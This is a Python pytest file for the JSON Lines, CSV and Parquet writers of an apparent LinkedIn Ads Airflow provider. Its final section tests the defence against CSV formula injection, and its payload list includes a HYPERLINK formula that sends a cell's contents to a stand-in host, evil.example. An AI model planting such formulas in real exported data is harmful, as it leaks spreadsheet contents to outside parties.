from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys
from decimal import Decimal
from typing import TYPE_CHECKING

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from airflow_provider_linkedin_ads.client import writers
from airflow_provider_linkedin_ads.client.writers import (
    CsvWriter,
    JsonLinesWriter,
    ParquetWriter,
    open_writer,
    write_rows,
)
from airflow_provider_linkedin_ads.errors import ConfigurationError
from airflow_provider_linkedin_ads.results import Column, ColumnKind, ReportRow

if TYPE_CHECKING:
    from collections.abc import Iterator

#: Every test here runs on the standard library encoder and, when installed, on orjson.
pytestmark = pytest.mark.usefixtures("json_encoder")

COLUMNS = (
    Column("start_date", ColumnKind.DATE),
    Column("end_date", ColumnKind.DATE),
    Column("campaign", ColumnKind.STRING),
    Column("impressions", ColumnKind.LONG),
    Column("costInUsd", ColumnKind.DECIMAL),
    Column("averageVideoWatchTime", ColumnKind.DOUBLE),
    Column("newMetric", ColumnKind.RAW),
)
DAY = dt.date(2026, 1, 2)
ROWS: list[ReportRow] = [
    {
        "start_date": DAY,
        "end_date": DAY,
        "campaign": "urn:li:sponsoredCampaign:1",
        "impressions": 165,
        "costInUsd": Decimal("107.5300000000000335346"),
        "averageVideoWatchTime": 0.1,
        "newMetric": "x",
    },
    {
        "start_date": DAY,
        "end_date": DAY,
        "campaign": 'weird, "quoted"\nvalue',
        "impressions": None,
        "costInUsd": Decimal("-1E-7"),
        "averageVideoWatchTime": None,
        "newMetric": None,
    },
]


def test_json_lines_keep_column_order_exact_decimals_and_nulls() -> None:
    target = io.BytesIO()
    assert write_rows(ROWS, target, COLUMNS) == 2
    lines = target.getvalue().decode("utf-8").splitlines()
    assert lines[0] == (
        '{"start_date":"2026-01-02","end_date":"2026-01-02","campaign":"urn:li:sponsoredCampaign:1",'
        '"impressions":165,"costInUsd":"107.5300000000000335346","averageVideoWatchTime":0.1,"newMetric":"x"}'
    )
    second = json.loads(lines[1])
    assert list(second) == [column.name for column in COLUMNS]
    assert second["costInUsd"] == "-0.0000001"
    assert second["impressions"] is None
    assert not target.closed


def test_csv_is_rfc_4180() -> None:
    target = io.BytesIO()
    write_rows(ROWS, target, COLUMNS, output_format="csv")
    text = target.getvalue().decode("utf-8")
    assert text.startswith(
        "start_date,end_date,campaign,impressions,costInUsd,averageVideoWatchTime,newMetric\r\n"
    )
    assert "2026-01-02,2026-01-02,urn:li:sponsoredCampaign:1,165,107.5300000000000335346,0.1,x\r\n" in text
    assert '"weird, ""quoted""\nvalue"' in text
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[2] == ["2026-01-02", "2026-01-02", 'weird, "quoted"\nvalue', "", "-0.0000001", "", ""]


def test_parquet_is_typed_and_exact() -> None:
    target = io.BytesIO()
    write_rows(ROWS, target, COLUMNS, output_format="parquet")
    assert not target.closed
    table = pq.read_table(io.BytesIO(target.getvalue()))
    assert table.schema.field("start_date").type == pa.date32()
    assert table.schema.field("impressions").type == pa.int64()
    assert table.schema.field("averageVideoWatchTime").type == pa.float64()
    assert table.schema.field("costInUsd").type == pa.decimal128(38, 20)
    assert table.schema.field("campaign").type == pa.string()
    values = table.column("costInUsd").to_pylist()
    assert values[0] == Decimal("107.5300000000000335346")
    assert values[1] == Decimal("-1E-7")
    assert table.column("impressions").to_pylist() == [165, None]


def test_parquet_refuses_to_round_a_decimal() -> None:
    columns = (Column("costInUsd", ColumnKind.DECIMAL),)
    with pytest.raises(ConfigurationError) as caught:
        write_rows([{"costInUsd": Decimal("0." + "1" * 25)}], io.BytesIO(), columns, output_format="parquet")
    assert caught.value.argument == "output_format"


def test_parquet_writes_one_row_group_per_batch() -> None:
    columns = (Column("impressions", ColumnKind.LONG),)
    target = io.BytesIO()
    with ParquetWriter(target, columns, batch_rows=10) as writer:
        for number in range(25):
            writer.write({"impressions": number})
    metadata = pq.ParquetFile(io.BytesIO(target.getvalue())).metadata
    assert metadata.num_row_groups == 3
    assert metadata.num_rows == 25


def test_parquet_row_groups_built_from_small_slices_are_the_same_file(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Rows become Arrow arrays a slice at a time (memory), yet row groups and bytes stay the same.
    columns = (Column("impressions", ColumnKind.LONG), Column("costInUsd", ColumnKind.DECIMAL))
    rows = [{"impressions": number, "costInUsd": Decimal(number) / 8} for number in range(25)]

    def parquet(slice_rows: int) -> bytes:
        monkeypatch.setattr(writers, "_PARQUET_SLICE_ROWS", slice_rows)
        target = io.BytesIO()
        with ParquetWriter(target, columns, batch_rows=10) as writer:
            for row in rows:
                writer.write(row)
        return target.getvalue()

    sliced = parquet(3)
    parquet_file = pq.ParquetFile(io.BytesIO(sliced))
    groups = [parquet_file.metadata.row_group(index).num_rows for index in range(parquet_file.num_row_groups)]
    assert groups == [10, 10, 5]
    assert parquet_file.read().to_pylist() == rows
    assert sliced == parquet(10_000)


def _parquet_bytes(rows: list[ReportRow]) -> bytes:
    target = io.BytesIO()
    write_rows(rows, target, COLUMNS, output_format="parquet")
    return target.getvalue()


def test_parquet_is_what_pyarrows_public_writer_writes(monkeypatch: pytest.MonkeyPatch) -> None:
    # The engine class behind pyarrow.parquet.ParquetWriter is used directly (no pyarrow.fs
    # import); without it the public wrapper is used: both must give the same bytes.
    rows = [*ROWS, *({"impressions": number, "costInUsd": Decimal(number) / 8} for number in range(50))]
    direct = _parquet_bytes(rows)
    monkeypatch.setitem(sys.modules, "pyarrow._parquet", None)  # import fails: the fallback
    assert _parquet_bytes(rows) == direct
    assert pq.read_table(io.BytesIO(direct)).to_pylist()[2:] == [
        {column.name: row.get(column.name) for column in COLUMNS} for row in rows[2:]
    ]


@pytest.mark.parametrize("missing", [("pyarrow",), ("pyarrow._parquet", "pyarrow.parquet")])
def test_parquet_without_pyarrow_or_its_parquet_support_names_the_extra(
    monkeypatch: pytest.MonkeyPatch, missing: tuple[str, ...]
) -> None:
    for module in missing:
        monkeypatch.setitem(sys.modules, module, None)
    with pytest.raises(ConfigurationError, match=r"\[parquet\]") as caught:
        write_rows(ROWS, io.BytesIO(), COLUMNS, output_format="parquet")
    assert caught.value.argument == "output_format"


def test_parquet_dictionary_encodes_every_column_but_decimals() -> None:
    metadata = pq.ParquetFile(io.BytesIO(_parquet_bytes(ROWS))).metadata.row_group(0)
    dictionary = {
        metadata.column(index).path_in_schema: metadata.column(index).has_dictionary_page
        for index in range(metadata.num_columns)
    }
    assert dictionary == {column.name: column.kind is not ColumnKind.DECIMAL for column in COLUMNS}


def test_writing_parquet_to_a_file_object_leaves_pyarrow_fs_unimported() -> None:
    # pyarrow.parquet imports pyarrow.fs (S3, GCS, Azure, HDFS: 10 MiB of RSS) to resolve paths.
    code = (
        "import io, sys\n"
        "from airflow_provider_linkedin_ads.client.writers import write_rows\n"
        "from airflow_provider_linkedin_ads.results import Column, ColumnKind\n"
        "write_rows([{'clicks': 1}], io.BytesIO(), (Column('clicks', ColumnKind.LONG),), output_format='parquet')\n"
        "print(sorted(name for name in sys.modules if name.startswith(('pyarrow.fs', 'pyarrow.parquet'))))\n"
    )
    answer = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert answer.stdout.strip() == "[]"


def test_rows_are_consumed_lazily() -> None:
    consumed: list[int] = []

    def rows() -> Iterator[ReportRow]:
        for number in range(3):
            consumed.append(number)
            yield {"impressions": number}

    writer = JsonLinesWriter(io.BytesIO(), (Column("impressions", ColumnKind.LONG),))
    iterator = rows()
    writer.write(next(iterator))
    assert consumed == [0]
    writer.close()


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        pytest.param("jsonl", JsonLinesWriter, id="jsonl"),
        pytest.param("JSON", JsonLinesWriter, id="json-alias"),
        pytest.param("csv", CsvWriter, id="csv"),
        pytest.param("parquet", ParquetWriter, id="parquet"),
    ],
)
def test_open_writer(name: str, kind: type) -> None:
    writer = open_writer(name, io.BytesIO(), COLUMNS)
    assert isinstance(writer, kind)
    writer.close()
    writer.close()  # closing twice is harmless


def test_unknown_format_names_the_argument() -> None:
    with pytest.raises(ConfigurationError) as caught:
        open_writer("xml", io.BytesIO(), COLUMNS)
    assert caught.value.argument == "output_format"


def test_missing_keys_are_written_as_null() -> None:
    target = io.BytesIO()
    write_rows([{"campaign": "c"}], target, COLUMNS)
    assert json.loads(target.getvalue())["costInUsd"] is None


# ── CSV formula injection (OWASP): text cells neutralised, numbers never ─────────────────────────

FORMULA_COLUMNS = (
    Column("campaign", ColumnKind.STRING),
    Column("campaign_name", ColumnKind.STRING),
    Column("costInUsd", ColumnKind.DECIMAL),
    Column("impressions", ColumnKind.LONG),
    Column("averageDwellTime", ColumnKind.DOUBLE),
    Column("newMetric", ColumnKind.RAW),
)
DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def _csv_rows(rows: list[ReportRow], **options: bool) -> list[list[str]]:
    target = io.BytesIO()
    write_rows(rows, target, FORMULA_COLUMNS, output_format="csv", **options)
    return list(csv.reader(io.StringIO(target.getvalue().decode("utf-8"), newline="")))[1:]


@pytest.mark.parametrize("name", DANGEROUS)
def test_csv_neutralises_formula_text_cells(name: str) -> None:
    row: ReportRow = {"campaign": "urn:li:sponsoredCampaign:1", "campaign_name": name, "newMetric": name}
    (cells,) = _csv_rows([row])
    assert cells[1] == "'" + name
    # An unknown metric's text is neutralised too, unless it is a plain number ("+1" is the number 1).
    assert cells[5] == (name if name == "+1" else "'" + name)
    assert cells[0] == "urn:li:sponsoredCampaign:1"


def test_csv_never_touches_numbers() -> None:
    row: ReportRow = {
        "campaign_name": "Brand - EMEA",
        "costInUsd": Decimal("-2.5"),
        "impressions": -3,
        "averageDwellTime": -0.5,
        "newMetric": "-2.5",  # an unknown metric LinkedIn sent as a decimal string
    }
    (cells,) = _csv_rows([row])
    assert cells == ["", "Brand - EMEA", "-2.5", "-3", "-0.5", "-2.5"]


def test_csv_opt_out_writes_text_verbatim() -> None:
    row: ReportRow = {"campaign_name": "=1+1", "newMetric": "@x"}
    (cells,) = _csv_rows([row], csv_escape_formulas=False)
    assert cells[1] == "=1+1"
    assert cells[5] == "@x"


@pytest.mark.parametrize("output_format", ["jsonl", "parquet"])
def test_json_lines_and_parquet_keep_formula_text_verbatim(output_format: str) -> None:
    target = io.BytesIO()
    write_rows([{"campaign_name": "=1+1"}], target, FORMULA_COLUMNS, output_format=output_format)
    if output_format == "jsonl":
        assert json.loads(target.getvalue())["campaign_name"] == "=1+1"
    else:
        assert pq.read_table(io.BytesIO(target.getvalue())).column("campaign_name").to_pylist() == ["=1+1"]
